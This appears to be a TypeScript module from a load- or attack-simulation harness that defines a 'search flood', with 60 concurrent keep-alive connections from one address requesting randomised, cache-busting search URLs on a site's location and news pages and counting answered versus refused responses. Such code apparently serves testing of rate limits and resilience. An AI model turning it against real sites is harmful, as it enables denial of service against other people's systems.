import { randomBytes } from 'node:crypto';
import { Agent } from 'node:http';
import { ask } from '../exchange.ts';
import { type Attack, repeat } from './attack.ts';

/** Pages that have to be rendered for each request, and the search below them. */
const makers: ((word: string) => string)[] = [
  (word) => `/standorte?q=${word}`,
  (word) => `/standorte?q=${word}&radius=500&services=drive&services=wifi`,
  (word) => `/aktuelles?suche=${word}`,
  (word) => `/standorte?q=${'%C3%A4'.repeat(80)}${word}`,
  () => `/standorte?lat=${50 + Math.random()}&lng=${9 + Math.random()}&radius=500`,
  (word) => `/search/widget/restaurants?q=${word}`,
];

/** Sixty connections of one address ask for pages that nobody has asked for before. */
export const searchFlood: Attack = {
  name: 'search flood',
  async run({ nextDoor, from }, signal) {
    const deeds = { done: 0, answered: 0, refused: 0 };
    const agent = new Agent({ keepAlive: true });
    await repeat({ atOnce: 60, pauseMs: 50 }, signal, async () => {
      const make = makers[deeds.done++ % makers.length] as (word: string) => string;
      const { status } = await ask(nextDoor(), { from, agent, path: make(randomBytes(8).toString('hex')) });
      if (status === 200) deeds.answered += 1;
      else deeds.refused += 1;
    });
    agent.destroy();
    return deeds;
  },
};
